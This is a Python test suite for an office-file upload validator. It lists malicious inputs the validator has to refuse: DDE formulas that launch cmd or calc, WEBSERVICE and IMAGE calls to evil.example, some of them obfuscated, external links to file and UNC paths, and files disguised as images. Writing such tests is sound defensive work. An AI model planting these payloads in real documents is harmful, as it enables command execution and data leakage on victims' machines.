"""Parts, formulas and links of office files: what is no part of an ordinary file is refused."""

import io

import pytest

from core.files import office_look
from core.files.checks import UploadRefused, check_upload
from core.files.models import ContentType
from tests.factories.documents import office_bytes, zip_bytes

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
KIND = {"word": "docx", "xl": "xlsx", "ppt": "pptx"}


def checked(content):
    return check_upload(io.BytesIO(content), len(content))


def with_part(name, content=b"x", types=""):
    return office_bytes(KIND.get(name.partition("/")[0], "docx"), {name: content}, types)


def said(name, kind):
    return f'<Override PartName="/{name}" ContentType="{kind}"/>'


def related(kind, target, mode=""):
    facts = f'Id="r1" Type="{OFFICE}/{kind}" Target="{target}"' + (f' TargetMode="{mode}"' if mode else "")
    return with_part("word/_rels/document.xml.rels", f"<Relationships><Relationship {facts}/></Relationships>")


def sheet(inside):
    return with_part("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{S}">{inside}</worksheet>')


def cell(formula):
    return sheet(f"<sheetData><row><c><f>{formula}</f></c></row></sheetData>")


FOREIGN = ["word/a.html", "word/a.rtf", "word/run.js", "word/x.lnk", "word/e.hta", "word/a.mht", "word/x.docx"]
FOREIGN += ["word/media/a.eps", "word/media/a.mp4", "ppt/media/a.wmv", "xl/x.bin", "xl/model/item.data", "word/x"]
FOREIGN += ["xl/a.psdsxs", "word/a.cer"]
REFUSED = {
    "a page as XML": with_part("word/a.xml", "<html/>", said("word/a.xml", "text/html")),
    "a page as XML, behind signs": with_part("word/a.xml", "<html/>", said("word/a%2Exml ", "text/html")),
    "a page as XML, by its suffix": office_bytes("docx", types='<Default Extension="png" ContentType="text/html"/>'),
    "a text of Word as a drawing": with_part("word/a.vml", "<x/>", said("word/a.vml", f"{SHEETS}.comments+xml")),
    "an old document as a picture": with_part("word/media/image1.png", b"{\\rtf1{\\object}}"),
    "a short cut as a picture": with_part("word/media/image1.png", b"L\0\0\0\x01\x14\x02\0"),
    "a PDF as a picture": with_part("word/media/image1.png", b"%PDF-1.7"),
    "a package as a picture": with_part("word/media/image1.png", zip_bytes("x")),
    "a macro sheet": with_part("xl/x.xml", "<x/>", said("xl/x.xml", "application/vnd.ms-excel.macrosheet+xml")),
    "an international one": with_part(
        "xl/x.xml", "<x/>", said("xl/x.xml", "application/vnd.ms-excel.intlmacrosheet+xml")
    ),
    "a link to a workbook": with_part("xl/x.xml", "<x/>", said("xl/x.xml", f"{SHEETS}.externalLink+xml")),
    "the same by its place": with_part("xl/externalLinks/externalLink1.xml", "<x/>"),
    "a data base": with_part("xl/connections.xml", "<x/>", said("xl/connections.xml", f"{SHEETS}.connections+xml")),
    "an exchange of data": with_part("xl/x.xml", f'<x xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></x>'),
    "the same in facts of .NET": with_part("package/services/a.psmdcp", '<x xmlns:w="urn:w"><w:altChunk/></x>'),
    "a part in another format": with_part("word/a.xml", '<x xmlns:w="urn:w"><w:altChunk/></x>'),
    "an entity in a part": with_part("word/a.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
}
RELATIONS = ["aFChunk", "externalLink", "externalLinkPath", "attachedTemplate", "subDocument", "oleObject", "control"]
RELATIONS += ["xlMacrosheet", "xlIntlMacrosheet", "dialogsheet", "connections", "queryTable", "frame", "vbaProject"]
FORMULAS = {
    "the web": 'WEBSERVICE("http://evil.example/"&amp;A1)',
    "the web, as Excel writes it": '_xlfn.WEBSERVICE ("http://evil.example/")',
    "the web, behind signs": "&#87;EB<!-- -->SERV<![CDATA[ICE(]]>A1)",
    "the web, in pieces": "WEB<x>SER</x>VICE(A1)",
    "a picture": '_xlfn.IMAGE("http://evil.example/")',
    "a programme": "cmd|'/C calc.exe'!A0",
    "a programme with a sum": "1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0",
    "a programme, as a function": 'DDE("soffice";"x";"A1")',
    "live data": 'RTD("x.y",,"z")',
}
TARGETS = [
    "file:///C:/x.exe",
    "\\\\evil.example\\x",
    "//evil.example/x",
    "javascript:alert(1)",
    "smb://evil/x",
    "x.docx",
]
TARGETS += ["ms-word:ofe|u|http://evil.example/x.docx", "tel:113", " file:///x"]


@pytest.mark.parametrize("name", FOREIGN)
def test_a_part_that_no_office_file_has_is_refused(name):
    with pytest.raises(UploadRefused, match="macro"):
        checked(with_part(name))


@pytest.mark.parametrize("case", REFUSED)
def test_another_file_under_the_name_of_a_part_is_refused(case):
    with pytest.raises(UploadRefused, match="macro"):
        checked(REFUSED[case])


@pytest.mark.parametrize("kind", RELATIONS)
@pytest.mark.parametrize("mode", ["", "External"])
def test_what_is_taken_in_is_refused(kind, mode):
    with pytest.raises(UploadRefused, match="macro"):
        checked(related(kind, "https://binhan.example/x" if mode else "x.xml", mode))


@pytest.mark.parametrize("target", ["http://evil.example/x.png", "file:///C:/x.png", "\\\\evil.example\\x.png"])
@pytest.mark.parametrize("mode", ["External", "Internal", ""])
def test_a_picture_from_elsewhere_is_refused_even_when_it_is_said_to_be_here(target, mode):
    with pytest.raises(UploadRefused, match="macro"):
        checked(related("image", target, mode))


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("place", ["f", "formula1", "definedName", "calculatedColumnFormula"])
def test_a_formula_that_fetches_is_refused(formula, place):
    with pytest.raises(UploadRefused, match="macro"):
        checked(sheet(f"<{place}>{FORMULAS[formula]}</{place}>"))


@pytest.mark.parametrize(
    "formula",
    [
        "IF('A|B'!B1=\"cmd|x!y\",1,2)",
        "Table1[a|b]+Sheet2!A1",
        'HYPERLINK("https://binhan.example/","x")',
        'HYPERLINK("#\'Sheet 2\'!A1","x")',
        'VLOOKUP(A1,Sheet2!$A$1:$B$9,2,0)&amp;"webservice"',
    ],
)
def test_an_ordinary_formula_is_taken(formula):
    assert checked(cell(formula)) == ContentType.XLSX


def test_words_in_a_cell_are_no_formula():
    content = with_part(
        "xl/sharedStrings.xml", f"<sst xmlns='{S}'><si><t>=cmd|'/c calc'!A0 WEBSERVICE(A1)</t></si></sst>"
    )
    assert checked(content) == ContentType.XLSX


@pytest.mark.parametrize("target", TARGETS)
def test_a_link_to_anything_but_the_web_or_a_letter_is_refused(target):
    with pytest.raises(UploadRefused, match="liên kết"):
        checked(related("hyperlink", target, "External"))


@pytest.mark.parametrize("target", ["http://a.example/", "HTTPS://a.example/", "mailto:a@a.example", "#Sheet2!A1"])
def test_a_link_to_the_web_or_a_letter_is_taken(target):
    assert checked(related("hyperlink", target, "External")) == ContentType.DOCX


@pytest.mark.parametrize(
    "content",
    [
        cell('HYPERLINK("file:///C:/x.exe","x")'),
        cell('HYPERLINK("\\\\evil.example\\x")'),
        with_part("docProps/app.xml", "<x><HyperlinkBase>\\\\evil.example\\</HyperlinkBase></x>"),
        with_part("word/header1.xml", '<x xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="file:///C:/x"/></x>'),
    ],
)
def test_links_that_stand_in_the_words_are_found(content):
    with pytest.raises(UploadRefused, match="liên kết"):
        checked(content)


def test_more_words_than_can_be_read_are_refused_unread(monkeypatch):
    monkeypatch.setattr(office_look, "MAX_WORDS", 100_000)
    assert office_look.answer(sheet("<c/>")) == "xlsx"
    assert office_look.answer(sheet("<c/>" * 30_000)) == "large"


def test_a_broken_part_is_refused():
    with pytest.raises(UploadRefused, match="hỏng"):
        checked(sheet("<c>"))
